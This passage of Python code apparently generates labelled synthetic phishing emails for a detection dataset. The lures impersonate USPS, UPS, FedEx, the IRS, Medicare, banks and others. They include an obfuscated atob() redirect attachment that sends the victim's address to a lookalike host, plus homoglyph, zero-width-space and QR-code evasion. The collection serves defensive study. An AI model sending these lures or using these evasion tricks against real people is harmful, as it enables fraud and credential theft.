                + ps("Thank you,<br>United States Postal Service"),
                "This email was sent from an unmonitored mailbox. &copy; 2024 United States Postal Service. All Rights Reserved.")
    plain = (f"Delivery Attempt Unsuccessful\n\nUSPS Tracking number: {trk}\n\nOur carrier attempted to deliver your package but "
             f"the street address is incomplete. Confirm your address within 48 hours (redelivery fee $0.30):\n{url}\n\n"
             "United States Postal Service\n")
    pre = (f"Received: by {host} with local (Exim 4.96.2)\n\t(envelope-from <{env}>)\n"
           f"\tid 1tG{an(n, 'ex', 3)}-00{an(n, 'ex2', 5)}-{an(n, 'ex3', 2)}\n\tfor {rcpt}; {rfc(when - timedelta(seconds=2), ZoneInfo('America/Phoenix'))}")
    headers = std(addr("USPS", "no-reply@ridgecrestchiro.com"), rcpt,
                  "USPS: Your package could not be delivered - action required", sent(when, ZoneInfo("America/Phoenix"), 2),
                  f"<{hx(n, 'wpid', 32)}@ridgecrestchiro.com>",
                  extra=["X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)"])
    return Sample(n, "phishing", "USPS failed-delivery notice from a chiropractor's hacked WordPress site on GoDaddy shared hosting "
                  "(no SPF/DKIM for the From domain), $0.30 redelivery fee, link to a Weebly site",
                  "comcast", rcpt, when, via, headers, alt(n, "php", plain, html), pre=pre)


@sample
def p06():
    n = "b11-ups-customs-fee-wordpress-aol"
    when = at("2024-12-09 16:24:33")
    rcpt = "gmoretti52@aol.com"
    host = "hwsrv-1129384.hostwindsdns.com"
    via = vps_via("ups-customsclearance.com", host, "142.11.206.93", "bounce@ups-customsclearance.com")
    trk = "1Z" + an(n, "trk", 16, UPNUM)
    url = f"https://greenvalleyfarmstand.com/wp-content/uploads/2024/11/ups/index.php?trk={trk}"
    html = card("UPS", banner("#351c15", "https://greenvalleyfarmstand.com/wp-content/uploads/2024/11/ups/logo.png", "UPS"),
                ps("<b>Your shipment is being held at customs</b>",
                   f"Tracking Number: <b>{trk}</b><br>Origin: Shenzhen, CN<br>Status: <span style=\"color:#c00\">Held &ndash; Duties Unpaid</span>",
                   "Import duties and taxes of <b>$2.99</b> must be paid before your package can be released for delivery. "
                   "If payment is not received within 3 business days, the shipment will be returned to the sender.")
                + button(url, "Pay Duties and Taxes", "#ffb500")
                + ps("UPS Brokerage Services"),
                "&copy; 2024 United Parcel Service of America, Inc. UPS, the UPS brandmark, and the color brown are trademarks of "
                "United Parcel Service of America, Inc. All rights reserved.")
    headers = std(addr("UPS Customs", "notice@ups-customsclearance.com"), rcpt,
                  f"UPS Update: Duties owed on package {trk}", sent(when, UTC), php_msgid(n, "ups-customsclearance.com"),
                  extra=[php_tail()])
    return Sample(n, "phishing", "UPS customs-duty ($2.99) lure from the lookalike ups-customsclearance.com on a Hostwinds VPS; "
                  "payment page hosted in the uploads folder of a compromised WordPress farm-stand site", "aol", rcpt, when, via,
                  headers, html_only(html))


@sample
def p07():
    n = "b11-fedex-html-attachment-atob-m365"
    when = at("2024-08-13 13:48:27")
    rcpt = "office@northgateautobody.com"
    dom = "coastalmedsupply.com"
    sender = "ap@coastalmedsupply.com"
    via = m365_via(dom, sender, n)
    target = "https://fedex-billing-portal.glitch.me/invoice?e="
    enc_target = base64.b64encode(target.encode()).decode()
    words = [base64.b64encode(w.encode()).decode() for w in ("replace", "location", "btoa")]
    page = ("<!DOCTYPE html>\n<html><head><meta charset=\"utf-8\"><title>FedEx Billing Online</title>\n"
            "<style>body{font-family:Arial,sans-serif;background:#f2f2f2}.b{margin:120px auto;width:320px;text-align:center;color:#4d148c}</style>\n"
            "<script>\n"
            f"var _0x{hx(n, 'v1', 4)}=['{words[0]}','{words[1]}','{words[2]}'];\n"
            f"var _0x{hx(n, 'v2', 4)}=function(i){{return atob(_0x{hx(n, 'v1', 4)}[i]);}};\n"
            f"var _e='b2ZmaWNlQG5vcnRoZ2F0ZWF1dG9ib2R5LmNvbQ==';\n"
            f"var _u=atob('{enc_target}')+window[_0x{hx(n, 'v2', 4)}(2)](atob(_e));\n"
            f"setTimeout(function(){{window[_0x{hx(n, 'v2', 4)}(1)][_0x{hx(n, 'v2', 4)}(0)](_u);}},900);\n"
            "</script></head>\n<body><div class=\"b\"><b>FedEx</b><p>Loading invoice 8841-2093&hellip;</p></div></body></html>\n")
    plain = ("Hello,\n\nPlease find attached FedEx invoice 8841-2093 for shipping charges on your account (balance $1,386.40). "
             "The invoice is past due; please review and arrange payment today to avoid suspension of your shipping account.\n\n"
             "Thank you,\nAccounts Payable\nCoastal Medical Supply\n")
    html = ("<html><head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=us-ascii\"></head><body>"
            "<div style=\"font-family:Aptos,Calibri,Helvetica,sans-serif;font-size:12pt\">Hello,<br><br>Please find attached FedEx "
            "invoice 8841-2093 for shipping charges on your account (balance <b>$1,386.40</b>). The invoice is past due; please "
            "review and arrange payment today to avoid suspension of your shipping account.<br><br>Thank you,<br>Accounts Payable"
            "<br>Coastal Medical Supply</div></body></html>\n")
    body = mixed(n, "outlook", [alt(n, "outlook", plain, html),
                                attachment("text/html", "FedEx_Invoice_8841-2093.html", page.encode())])
    headers = std(addr("FedEx Billing", sender), rcpt, "FedEx Invoice 8841-2093 - Past Due", sent(when, ET),
                  outlook_msgid(n, "SA1PR"), extra=["Thread-Topic: FedEx Invoice 8841-2093 - Past Due",
                                                   f"Thread-Index: {b64(n, 'ti', 18)[:22]}", "Accept-Language: en-US",
                                                   "Content-Language: en-US", m365_tail(n, when, dom)])
    return Sample(n, "phishing", "FedEx past-due invoice from a medical supplier's compromised Microsoft 365 mailbox; the HTML "
                  "attachment decodes its target with atob() and redirects to fedex-billing-portal.glitch.me with the victim's address",
                  "m365", rcpt, when, via, headers, body, pre=m365_pre(n, when))


@sample
def p08():
    n = "b11-usps-paquete-qr-png-es"
    when = at("2025-05-06 17:03:45")
    rcpt = "jen.castellano@gmail.com"
    host = "mail.usps-entregas.net"
    via = vps_via("usps-entregas.net", host, "45.61.137.52", "notificacion@usps-entregas.net", dkim=True, dmarc="pass")
    qr_url = "https://usps.entrega-pendiente.cfd/es/?id=" + digits(n, "id", 10)
    png = files.qr_png(qr_url)
    html = ("<html><body style=\"font-family:Arial,sans-serif;color:#333\"><div style=\"max-width:560px;margin:auto\">"
            "<div style=\"background:#333366;color:#fff;padding:14px 20px;font-size:20px;font-weight:bold\">USPS</div>"
            "<h2 style=\"color:#333366\">Su paquete no pudo ser entregado</h2>"
            "<p>Estimado(a) cliente: su paquete está retenido en nuestro centro de distribución porque la dirección de "
            "entrega está incompleta.</p>"
            "<p><b>Escanee el código QR con la cámara de su teléfono</b> para confirmar su dirección y reprogramar la entrega. "
            "Se aplicará una tarifa de reenvío de $1.25.</p>"
            "<p style=\"text-align:center\"><img src=\"cid:qr-" + hx(n, "cid", 8) + "@usps\" width=\"220\" height=\"220\" alt=\"Código QR\"></p>"
            "<p>Si no confirma en un plazo de 24 horas, el paquete será devuelto al remitente.</p>"
            "<p style=\"font-size:11px;color:#888\">© 2025 Servicio Postal de los Estados Unidos.</p></div></body></html>\n")
    plain = ("Su paquete no pudo ser entregado. Escanee el código QR adjunto para confirmar su dirección y reprogramar la entrega "
             "(tarifa de $1.25). Si no confirma en 24 horas, el paquete será devuelto.\n")
    body = related(n, "php", [alt(n, "php", plain, html), inline_image("image/png", "qr.png", png, f"qr-{hx(n, 'cid', 8)}@usps")])
    headers = std(addr("Servicio Postal USPS", "notificacion@usps-entregas.net"), rcpt,
                  "USPS: Su paquete no pudo ser entregado - reprograme su entrega", sent(when, UTC),
                  php_msgid(n, "usps-entregas.net"), extra=[php_tail()])
    return Sample(n, "phishing", "Spanish USPS undeliverable-parcel notice from the lookalike usps-entregas.net whose only "
                  "call to action is an inline QR code pointing to usps.entrega-pendiente.cfd ($1.25 fee)",
                  "gmail", rcpt, when, via, headers, body, lang="es")


@sample
def p09():
    n = "b11-irs-idme-refund-netlify-sendgrid"
    when = at("2025-02-27 15:19:56")
    rcpt = "mike.okafor.tx@gmail.com"
    dom = "irsrefund-notice.com"
    via = sendgrid_via(dom, n, rcpt)
    url = "https://id-me-irs-verify.netlify.app/login?case=" + an(n, "case", 10, UPNUM)
    html = card("IRS", banner("#1b3b6f", "https://id-me-irs-verify.netlify.app/assets/irs-logo-white.png", "IRS"),
                ps("<b>Notice CP53E &ndash; Refund Identity Verification</b>",
                   "Taxpayer,",
                   "After the last annual calculation of your fiscal activity we have determined that you are eligible to receive "
                   "a tax refund of <b>$1,284.60</b>. Before the refund can be released by direct deposit, the Internal Revenue "
                   "Service requires you to verify your identity through our partner <b>ID.me</b>.",
                   "Refunds not verified within 72 hours are returned to the U.S. Treasury and you will need to file Form 3911.")
                + button(url, "Verify with ID.me", "#2e7d32")
                + ps("Internal Revenue Service<br>Department of the Treasury"),
                "&copy; 2025 Internal Revenue Service. This notice was sent to you because of your 2024 filing.<br>"
                "<a href=\"https://www.irs.gov/privacy-disclosure\" style=\"color:#777\">Privacy Policy</a>")
    plain = ("Notice CP53E - Refund Identity Verification\n\nTaxpayer,\n\nYou are eligible to receive a tax refund of $1,284.60. "
             "Before the refund can be released the IRS requires you to verify your identity with ID.me:\n"
             f"{url}\n\nRefunds not verified within 72 hours are returned to the U.S. Treasury.\n\nInternal Revenue Service\n")
    headers = std(addr("IRS Tax Refunds", "refunds@irsrefund-notice.com"), rcpt,
                  "Action Required: Verify your identity to receive your 2024 tax refund", sent(when, UTC, 2),
                  f"<{ub64(n, 'sgmid', 22)}@geopod-ismtpd-{num(n, 'sggeo', 1, 40)}>", extra=[sendgrid_tail(n)])
    return Sample(n, "phishing", "IRS refund 'ID.me verification' lure sent through SendGrid from irsrefund-notice.com (the IRS "
                  "does not email refund notices), 72-hour deadline, link to id-me-irs-verify.netlify.app", "gmail", rcpt, when,
                  via, headers, alt(n, "sendgrid", plain, html), pre=sendgrid_pre(n, when))


@sample
def p10():
    n = "b11-ca-ftb-refund-firebase-spectrum"
    when = at("2024-04-02 19:40:12")
    rcpt = "patty.lindqvist@charter.net"
    host = "server1.calif-taxboard.org"
    via = vps_via("calif-taxboard.org", host, "104.168.46.210", "ftb@calif-taxboard.org", dkim=True, dmarc="pass")
    url = "https://ftb-ca-gov-refund.web.app/MyFTB/refund?id=" + digits(n, "id", 9)
    html = card("Franchise Tax Board", banner("#00355f", "https://ftb-ca-gov-refund.web.app/img/ftb-seal.png", "State of California Franchise Tax Board"),
                ps("Dear Taxpayer,",
                   "The Franchise Tax Board has processed your 2023 California resident income tax return. You are due a "
                   "<b>refund of $612.00</b>, including the Middle Class Tax Refund adjustment.",
                   "Your refund could not be deposited because the bank information on file is incomplete. Sign in to MyFTB and "
                   "confirm your deposit details by <b>April 5, 2024</b> to avoid a paper check delay of 8&ndash;12 weeks.")
                + button(url, "Sign in to MyFTB", "#00355f")
                + ps("State of California<br>Franchise Tax Board"),
                "Do not reply to this email. For privacy, do not include personal information in email.")
    headers = std(addr("CA Franchise Tax Board", "ftb@calif-taxboard.org"), rcpt, "Your California tax refund is on hold",
                  sent(when, PT), php_msgid(n, "calif-taxboard.org"), extra=[php_tail()])
    return Sample(n, "phishing", "California Franchise Tax Board refund-on-hold lure from the lookalike calif-taxboard.org, "
                  "asks to 'confirm deposit details' on Firebase Hosting ftb-ca-gov-refund.web.app", "spectrum", rcpt, when, via,
                  headers, html_only(html))


@sample
def p11():
    n = "b11-ssa-statement-r2-outlook"
    when = at("2025-06-18 13:26:44")
    rcpt = "rbrennan_77@outlook.com"
    host = "mail.ssa-statements-online.com"
    via = vps_via("ssa-statements-online.com", host, "185.208.158.27", "statements@ssa-statements-online.com", dkim=True,
                  dmarc="pass", country="CH")
    url = f"https://pub-{hx(n, 'r2', 32)}.r2.dev/ssa/statement.html"
    html = card("Social Security", banner("#112e51", "https://pub-" + hx(n, "r2", 32) + ".r2.dev/ssa/ssa-logo.png", "Social Security Administration"),
                ps("<b>Your Social Security Statement is ready</b>",
                   "Your annual Social Security Statement for 2025 is now available. It shows your earnings record and estimates of "
                   "your retirement, disability and survivor benefits.",
                   "Please review your Statement carefully. If your earnings record is not correct, your future benefits may be "
                   "reduced. The electronic Statement will be available for <b>7 days</b>.")
                + button(url, "View My Statement", "#0071bc")
                + ps("Sign in with Login.gov or ID.me to access your Statement.", "Social Security Administration"),
                "This email was sent by the Social Security Administration, 6401 Security Blvd, Baltimore, MD 21235.")
    plain = ("Your Social Security Statement is ready\n\nYour annual Social Security Statement for 2025 is now available. "
             f"The electronic Statement will be available for 7 days.\n\nView My Statement: {url}\n\nSocial Security Administration\n")
    headers = std(addr("Social Security Administration", "statements@ssa-statements-online.com"), rcpt,
                  "Your Social Security Statement Is Ready To View", sent(when, UTC), php_msgid(n, "ssa-statements-online.com"),
                  extra=[php_tail()])
    return Sample(n, "phishing", "Social Security Statement lure from ssa-statements-online.com (not ssa.gov) on a Swiss VPS, "
                  "7-day window, 'View My Statement' on a Cloudflare R2 public bucket (pub-….r2.dev)", "outlook", rcpt, when,
                  via, headers, alt(n, "php", plain, html), scl=1)


@sample
def p12():
    n = "b11-ncdmv-suspension-brevo-yahoo"
    when = at("2024-06-25 14:51:20")
    rcpt = "linda.hartwell@yahoo.com"
    dom = "ncdmv-services.com"
    ip = f"77.32.148.{num(n, 'bip', 2, 250)}"
    host = f"s{num(n, 'bh', 10, 99)}.y{num(n, 'bh2', 10, 99)}.mta.sender-sib.com"
    via = Via(ip=ip, helo=host, rdns=host, mailfrom=f"{hx(n, 'brmf', 26)}@{an(n, 'brsub', 3).lower()}.d.sender-sib.com",
              spf="pass", dkim=[(dom, "mail", "pass"), ("sender-sib.com", "mail", "pass")], dmarc="pass", policy="NONE",
              from_domain=dom, sign_headers="Date:From:Reply-To:Subject:To:Message-Id:MIME-Version:Content-Type")
    track = f"https://{an(n, 'trk', 4).lower()}.r.sp1-brevo.net/tr/cl/{ub64(n, 'cl', 90)}"
    html = card("NCDMV", banner("#003366", "https://img-cache.net/im/" + digits(n, "img", 7) + "/ncdmv-logo.png", "NCDMV"),
                ps("<b>NOTICE OF PENDING SUSPENSION</b>",
                   "North Carolina Division of Motor Vehicles records show an <b>outstanding traffic citation</b> associated "
                   "with your driver license. Under N.C.G.S. 20-24.1, your driving privilege will be <b>suspended on June 27, "
                   "2024</b> unless the citation is resolved.",
                   "Case number: NC-" + digits(n, "case", 8) + "<br>Amount due: $86.00")
                + button(track, "Resolve Citation Now", "#b22222")
                + ps("NC Division of Motor Vehicles<br>Raleigh, NC"),
                "You are receiving this email because you are registered with NCDMV. "
                f"<a href=\"https://{an(n, 'trk', 4).lower()}.r.sp1-brevo.net/tr/un/{ub64(n, 'un', 60)}\" style=\"color:#777\">Unsubscribe</a>")
    plain = ("NOTICE OF PENDING SUSPENSION\n\nNCDMV records show an outstanding traffic citation associated with your driver "
             "license. Your driving privilege will be suspended on June 27, 2024 unless the citation is resolved ($86.00).\n\n"
             f"Resolve Citation Now: {track}\n")
    headers = std(addr("NCDMV Notices", f"notices@{dom}"), rcpt, "Notice of Pending Driver License Suspension",
                  sent(when, UTC, 2), f"<{hx(n, 'brid', 18)}.{digits(n, 'brid2', 10)}@smtp-relay.mailin.fr>",
                  reply_to="ncdmv.citations.office@gmail.com",
                  extra=[f"X-sib-id: {ub64(n, 'sibid', 72)}", f"Feedback-ID: {digits(n, 'fb', 8)}:{digits(n, 'fb2', 7)}:sib",
                         f"List-Unsubscribe: <https://{an(n, 'trk', 4).lower()}.r.sp1-brevo.net/tr/un/{ub64(n, 'un', 60)}>",
                         f"X-Mailer: Sendinblue", f"X-Csa-Complaints: csa-complaints@eco.de",
                         f"Origin-messageId: <{hx(n, 'brid', 18)}.{digits(n, 'brid2', 10)}@smtp-relay.mailin.fr>"])
    return Sample(n, "phishing", "NC DMV licence-suspension notice sent through Brevo from ncdmv-services.com with a Gmail "
                  "Reply-To; the citation 'payment' link hides behind Brevo click tracking", "yahoo", rcpt, when, via, headers,
                  alt(n, "net", plain, html))


@sample
def p13():
    n = "b11-medicare-card-square-site-school-m365-aol"
    when = at("2023-10-17 15:02:38")
    rcpt = "bobbyjeanwalsh@aol.com"
    dom = "lincolnparkschools.org"
    sender = "jthomas@lincolnparkschools.org"
    via = m365_via(dom, sender, n)
    url = "https://medicare-card-update.square.site/"
    html = ("<html><head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=utf-8\"></head><body>"
            "<div style=\"font-family:Georgia,serif;font-size:15px;color:#1a1a1a;max-width:620px\">"
            "<p style=\"font-size:20px;color:#0b4778\"><b>Medicare.gov</b> &nbsp;|&nbsp; Centers for Medicare &amp; Medicaid Services</p>"
            "<p>Dear Medicare Beneficiary,</p>"
            "<p>As part of the 2024 Open Enrollment period, Medicare is issuing <b>new chip-enabled Medicare cards</b> to all "
            "beneficiaries. Your old card will be <b>deactivated on November 1, 2023</b>.</p>"
            "<p>To receive your new card and keep your Part A and Part B coverage active, please confirm your Medicare "
            "Number, date of birth and the bank account used for your premium payments.</p>"
            f"<p style=\"margin:24px 0\"><a href=\"{url}\" style=\"background:#0b4778;color:#fff;padding:12px 24px;text-decoration:none;border-radius:3px\">Confirm my information</a></p>"
            "<p>If you do not confirm, you may lose coverage and be charged a late enrollment penalty.</p>"
            "<p>Sincerely,<br>Medicare Beneficiary Services<br>1-800-MEDICARE</p></div></body></html>\n")
    plain = ("Dear Medicare Beneficiary,\n\nMedicare is issuing new chip-enabled Medicare cards. Your old card will be "
             "deactivated on November 1, 2023. Confirm your Medicare Number, date of birth and bank account to keep your "
             f"coverage active:\n{url}\n\nMedicare Beneficiary Services\n")
    headers = std(addr("Medicare.gov", sender), "Undisclosed recipients:;",
                  "Action Required: Your New Medicare Card Is Ready - Confirm Your Information", sent(when, CT),
                  outlook_msgid(n, "MN2PR"), extra=["Thread-Topic: Action Required: Your New Medicare Card Is Ready - Confirm Your Information",
                                                   f"Thread-Index: AQHaIB{an(n, 'ti', 16)}==", "Accept-Language: en-US",
                                                   "Content-Language: en-US", m365_tail(n, when, dom)])
    return Sample(n, "phishing", "Medicare 'new chip card' lure sent Bcc from a school district's compromised Microsoft 365 "
                  "mailbox, asks for Medicare number, birth date and bank account on medicare-card-update.square.site",
                  "aol", rcpt, when, via, headers, alt(n, "outlook", plain, html), pre=m365_pre(n, when))


@sample
def p14():
    n = "b11-anthem-coverage-tinyurl-yahoo-sender-gmail"
    when = at("2023-12-05 20:44:10")
    rcpt = "tgarrison1961@gmail.com"
    sender = "deloresmcnair58@yahoo.com"
    via = yahoo_via(sender, n)
    url = "https://tinyurl.com/anthm-renew-2024"
    html = ("<html><head></head><body><div class=\"ydp\" style=\"font-family:Helvetica Neue,Helvetica,Arial,sans-serif;font-size:13px\">"
            "<div><b style=\"font-size:18px;color:#0072bc\">Anthem</b> <span style=\"color:#0072bc\">BlueCross BlueShield</span></div><br>"
            "<div>Dear Member,</div><br>"
            "<div>We were unable to process your December premium payment. Your health coverage will be <b>canceled on "
            "December 8, 2023</b> and any claims after that date will be denied.</div><br>"
            "<div>To keep your plan and your current doctors, update your payment method now:</div><br>"
            f"<div><a href=\"{url}\" rel=\"nofollow\" target=\"_blank\">{url}</a></div><br>"
            "<div>Member Services<br>Anthem Blue Cross and Blue Shield</div></div></body></html>\n")
    plain = ("Anthem BlueCross BlueShield\n\nDear Member,\n\nWe were unable to process your December premium payment. Your health "
             "coverage will be canceled on December 8, 2023 and any claims after that date will be denied.\n\nTo keep your plan, "
             f"update your payment method now:\n{url}\n\nMember Services\n")
    headers = std(addr("Anthem Member Services", sender), "undisclosed-recipients:;", "Your health coverage will be canceled",
                  sent(when, ET), f"<{num(n, 'ymid', 100000000, 999999999)}.{num(n, 'ymid2', 1000000, 9999999)}.17{digits(n, 'ymid3', 11)}@mail.yahoo.com>",
                  extra=[f"References: <{num(n, 'ymid', 100000000, 999999999)}.{num(n, 'ymid2', 1000000, 9999999)}.17{digits(n, 'ymid3', 11)}.ref@mail.yahoo.com>",
                         "X-Mailer: WebService/1.1.21952 YMailNorrin"])
    return Sample(n, "phishing", "Anthem health-coverage cancellation from a hijacked personal Yahoo mailbox, three-day deadline, "
                  "payment update through a tinyurl.com alias", "gmail", rcpt, when, via, headers, alt(n, "yahoo", plain, html),
                  pre=yahoo_pre(n, when, sender))


@sample
def p15():
    n = "b11-chase-restricted-webflow-att"
    when = at("2024-05-21 11:17:05")
    rcpt = "dwbarnes@att.net"
    host = "mta1.chasebank-alerts-secure.com"
    via = vps_via("chasebank-alerts-secure.com", host, "91.92.243.71", "alerts@chasebank-alerts-secure.com", dkim=True,
                  dmarc="pass", country="BG")
    url = "https://chase-account-restore.webflow.io/?ref=" + hx(n, "ref", 10)
    html = card("Chase", banner("#117aca", "https://chase-account-restore.webflow.io/images/chase-logo-white.png", "Chase"),
                ps("<b>Your account access has been temporarily restricted</b>",
                   "We noticed unusual activity on your Chase online account, including a sign-in attempt from a new device in "
                   "<b>Lagos, Nigeria</b>. As a precaution, we have limited access to online and mobile banking.",
                   "To restore full access, please confirm your identity and review recent transactions. If you do not complete "
                   "this within 24 hours, your debit card will be blocked.")
                + button(url, "Restore Access", "#117aca")
                + ps("We're here to help,<br>Chase Fraud Prevention"),
                "JPMorgan Chase Bank, N.A. Member FDIC. &copy; 2024 JPMorgan Chase &amp; Co. Please don't reply to this email.")
    plain = ("Your account access has been temporarily restricted.\n\nWe noticed a sign-in attempt from a new device in Lagos, "
             f"Nigeria. Confirm your identity within 24 hours to restore access:\n{url}\n\nChase Fraud Prevention\n")
    headers = std(addr("Chase Online", "alerts@chasebank-alerts-secure.com"), rcpt,
                  "Chase: your account access has been temporarily restricted", sent(when, UTC),
                  php_msgid(n, "chasebank-alerts-secure.com"), extra=[php_tail()])
    return Sample(n, "phishing", "Chase account-restricted notice from the lookalike chasebank-alerts-secure.com (Bulgarian VPS), "
                  "24-hour card-block threat, link to chase-account-restore.webflow.io", "att", rcpt, when, via, headers,
                  alt(n, "php", plain, html))


@sample
def p16():
    n = "b11-wellsfargo-zero-width-godaddysites-outlook"
    when = at("2024-09-03 09:58:47")
    rcpt = "j.delacruz@live.com"
    host = "cp-wc35.lon01.ds.network"
    sender = "alumni@tcu-alumnirelations.org"
    via = vps_via("tcu-alumnirelations.org", host, "185.151.30.146", sender, dkim=True, dmarc="none", country="GB")
    z = "\u200b"
    brand = f"W{z}e{z}l{z}l{z}s F{z}a{z}r{z}g{z}o"
    url = "https://wellsfargo-secure-signon.godaddysites.com/"
    html = ("<html><head><meta charset=\"utf-8\"></head><body style=\"font-family:Verdana,Arial,sans-serif;font-size:14px;color:#333\">"
            "<table width=\"580\" cellpadding=\"0\" cellspacing=\"0\" style=\"border:1px solid #ddd\">"
            f"<tr><td style=\"background:#d71e28;padding:14px 20px;color:#ffcd41;font-size:20px;font-weight:bold\">{brand}</td></tr>"
            "<tr><td style=\"padding:20px\">"
            f"<p>We detected an unusual sign-in attempt to your {brand} Online&reg; account from an unrecognized device.</p>"
            "<p>Date: 09/03/2024 04:12 AM PT<br>Device: Windows 10 / Edge<br>Location: Kyiv, Ukraine</p>"
            f"<p>If this wasn't you, please verify your account immediately. For your protection, some features of your "
            f"ac\u00adcount have been temporarily suspended.</p>"
            f"<p><a href=\"{url}\" style=\"color:#fff;background:#d71e28;padding:10px 22px;text-decoration:none\">Verify Now</a></p>"
            f"<p>Thank you,<br>{brand} Online Security</p>"
            "</td></tr></table></body></html>\n")
    plain = (f"We detected an unusual sign-in attempt to your {brand} Online account from Kyiv, Ukraine.\n\nIf this wasn't you, "
             f"verify your account immediately:\n{url}\n\n{brand} Online Security\n")
    headers = std(addr(f"{brand} Online", sender), rcpt, f"{brand}: Unusual sign-in attempt detected", sent(when, UTC),
                  php_msgid(n, "tcu-alumnirelations.org"), extra=[php_tail()])
    return Sample(n, "phishing", "Wells Fargo unusual-sign-in alert whose brand name in the subject, display name and body is "
                  "split by zero-width spaces, sent from an unrelated alumni domain; link to a godaddysites.com page",
                  "outlook", rcpt, when, via, headers, alt(n, "php", plain, html),
                  pre=cpanel_pre(n, host, when, sender, "41.203.72.8", rcpt), scl=1)


@sample
def p17():
    n = "b11-bofa-locked-pdf-vercel-gmail"
    when = at("2024-07-09 13:33:29")
    rcpt = "kevin.larue@gmail.com"
    host = "smtp.bofa-onlinebanking-support.com"
    via = vps_via("bofa-onlinebanking-support.com", host, "146.70.124.19", "service@bofa-onlinebanking-support.com",
                  dkim=True, dmarc="pass", country="US")
    url = "https://bofa-account-unlock.vercel.app/auth?case=" + digits(n, "case", 9)
    pdf = pdf_doc(["Bank of America", "", "Online Banking Security Notice", f"Reference: BA-{digits(n, 'ref', 10)}", "",
                   "Dear Customer,", "",
                   "Your Online Banking access has been locked after several unsuccessful sign-in attempts.",
                   "To protect your accounts, Zelle(R) transfers and debit card purchases are on hold until",
                   "you verify your identity.", "",
                   "Click the button below to unlock your account. This link expires in 48 hours.", "", "", "", "", "",
                   "Bank of America, N.A. Member FDIC. Equal Housing Lender."],
                  "Account Notice", "Microsoft: Print To PDF", "D:20240709082944-05'00'",
                  link=(url, (56, 548, 300, 584), "UNLOCK ACCOUNT"))
    plain = ("Dear Customer,\n\nPlease see the attached notice regarding your Bank of America Online Banking access.\n\n"
             "Bank of America Customer Service\n")
    html = ("<html><body style=\"font-family:Arial,sans-serif;font-size:14px\"><p>Dear Customer,</p>"
            "<p>Please see the attached notice regarding your Bank of America Online Banking access.</p>"
            "<p>Bank of America Customer Service</p></body></html>\n")
    body = mixed(n, "php", [alt(n, "php", plain, html), attachment("application/pdf", "BofA_Account_Notice.pdf", pdf)])
    headers = std(addr("Bank of America", "service@bofa-onlinebanking-support.com"), rcpt,
                  "Important notice about your Online Banking access", sent(when, UTC), php_msgid(n, "bofa-onlinebanking-support.com"),
                  extra=[php_tail()])
    return Sample(n, "phishing", "Bank of America locked-account notice from bofa-onlinebanking-support.com; the message body is "
                  "bare and the only link is an 'UNLOCK ACCOUNT' button inside the PDF, to bofa-account-unlock.vercel.app",
                  "gmail", rcpt, when, via, headers, body)


@sample
def p18():
    n = "b11-capitalone-homoglyph-punycode-verizon"
    when = at("2023-08-22 22:05:14")
    rcpt = "hmccoy@verizon.net"
    puny = "capitalonе.com".encode("idna").decode()  # Cyrillic 'е' at the end of the label
    host = f"mail.{puny}"
    via = vps_via(puny, host, "5.181.80.233", f"alerts@{puny}", dkim=True, dmarc="pass", country="LT")
    url = f"https://{puny}/verify/?session={hx(n, 'sess', 16)}"
    html = card("Capital One", banner("#004977", f"https://{puny}/assets/c1-logo.png", "Capital One"),
                ps("<b>A purchase on your card was declined</b>",
                   "We declined a transaction of <b>$892.44</b> at BESTBUY.COM on your Capital One Quicksilver card ending in "
                   f"{digits(n, 'card', 4)} because it looked unusual.",
                   "To keep using your card, please confirm your identity. Until then, your card is temporarily locked.")
                + f'<p style="margin:0 0 14px 0;">Go to <a href="{url}">capitalone.com/verify</a> and sign in.</p>'
                + button(url, "Confirm Identity", "#d03027"),
                "Capital One, N.A. &copy;2023 Capital One. This email was sent to you as a Capital One customer.")
    headers = std(addr("Capital One", f"alerts@{puny}"), rcpt, "Transaction declined - please confirm your identity",
                  sent(when, UTC), php_msgid(n, puny), extra=[php_tail()])
    return Sample(n, "phishing", "Capital One declined-purchase alert from a homoglyph domain (capitalone with a Cyrillic 'е', "
                  f"{puny}); the link text says capitalone.com/verify but points to the punycode domain",
                  "verizon", rcpt, when, via, headers, html_only(html))


@sample
def p19():
    n = "b11-citi-secure-message-workers-mailgun-m365"
    when = at("2025-01-28 16:40:52")
    rcpt = "kim@bluefinmarketing.co"
    dom = "citi-securemail.com"
    ip = f"159.135.{num(n, 'mgip', 224, 239)}.{num(n, 'mgip2', 1, 254)}"
    host = f"m{ip.split('.')[2]}-{ip.split('.')[3]}.mailgun.net"
    via = Via(ip=ip, helo=host, rdns=host, mailfrom=f"bounce+{hx(n, 'mgb', 6)}.{hx(n, 'mgb2', 6)}-kim=bluefinmarketing.co@mg.{dom}",
              spf="pass", dkim=[(f"mg.{dom}", "krs", "pass")], dmarc="pass", policy="NONE", from_domain=dom,
              sign_headers="Content-Transfer-Encoding:Content-Type:Mime-Version:Subject:Subject:From:From:To:To:Message-Id:Date:Sender:Sender")
    url = f"https://citi-securemsg-portal.{an(n, 'acct', 7).lower()}.workers.dev/?msg={hx(n, 'msg', 24)}&amp;r=kim%40bluefinmarketing.co"
    html = card("Citi Secure Message", banner("#003b70", "https://citi-securemsg-portal." + an(n, 'acct', 7).lower() + ".workers.dev/citi.png", "citi"),
                ps("<b>You have received a secure message</b>",
                   "Citi Commercial Services has sent you an encrypted message regarding your business account "
                   f"ending in {digits(n, 'acct4', 4)}.",
                   "Subject: <b>Updated ACH remittance details &ndash; action required</b><br>Sent: 01/28/2025 10:31 AM ET<br>"
                   "Encryption: TLS 1.3 / AES-256",
                   "To read the message, open the secure portal and sign in with your Microsoft 365 or business email "
                   "credentials. The message will expire in 72 hours.")
                + button(url, "Open Secure Message", "#056dae")
                + ps('<span style="font-size:12px;color:#555">Secured by Citi&reg; Secure Email. Do not forward this notification.</span>'),
                "Citibank, N.A. Member FDIC. &copy; 2025 Citigroup Inc.")
    plain = ("You have received a secure message from Citi Commercial Services regarding your business account.\n"
             f"Open Secure Message: {url.replace('&amp;', '&')}\nThe message will expire in 72 hours.\n")
    pre = (f"Received: by {hx(n, 'mgr', 16)} with HTTP id {hx(n, 'mgr2', 24)}; {rfc(when - timedelta(seconds=2))}\n"
           f"Sender: citi-secure=citi-securemail.com@mg.{dom}")
    headers = std(addr("Citi Secure Message", f"securemessage@{dom}"), rcpt, "Secure Message: Updated ACH remittance details",
                  sent(when, UTC, 2), f"<{digits(n, 'mgid', 14)}.{hx(n, 'mgid2', 16)}@mg.{dom}>",
